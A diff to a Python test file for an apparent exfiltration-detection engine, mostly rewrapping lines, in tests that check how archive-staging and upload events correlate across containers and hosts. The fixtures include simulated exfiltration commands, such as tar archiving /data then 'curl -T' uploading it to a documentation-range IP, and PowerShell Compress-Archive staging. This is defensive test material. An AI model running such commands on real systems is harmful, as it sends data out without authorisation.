@@ -79,7 +79,9 @@ def test_transfer_from_another_container_does_not_correlate() -> None:
     found = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=container()),
-            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=container(OTHER, "web")),
+            launch(
+                "curl -T /tmp/a.tgz https://203.0.113.5/u", time=1100, ctr=container(OTHER, "web")
+            ),
         ]
     )
     assert [f.analytic.uid for f in found] == [CREATED]
@@ -170,8 +172,11 @@ def test_short_container_ids_meet_the_full_id() -> None:
 def test_hosts_without_containers_correlate_per_host() -> None:
     [finding] = run(
         [
-            launch(r"powershell.exe -Command Compress-Archive -Path C:\d\* -DestinationPath C:\a\d.zip",
-                   time=1000, host="WS1"),
+            launch(
+                r"powershell -Command Compress-Archive -Path C:\d\* -DestinationPath C:\a\d.zip",
+                time=1000,
+                host="WS1",
+            ),
             launch(r"docker run -v C:\a:/data alpine sh", time=1100, host="WS1"),
             connect("198.51.100.23", port=80, time=1110, host="WS1"),
             connect("198.51.100.23", port=80, time=1111, host="WS2"),
@@ -223,6 +228,8 @@ def test_open_episodes_are_bounded() -> None:
     found: list[Finding] = []
     engine = Engine(found.append, EngineConfig(correlation=CorrelationConfig(max_open=10)))
     for n in range(50):
-        engine.process(launch("tar -czf /tmp/a.tgz /d", time=1000 + n, ctr=container(f"{n:012x}" + "a" * 52)))
+        engine.process(
+            launch("tar -czf /tmp/a.tgz /d", time=1000 + n, ctr=container(f"{n:012x}" + "a" * 52))
+        )
     assert engine.correlator.open_episodes == 10
     assert len(found) == 40  # closed early, reported, not lost
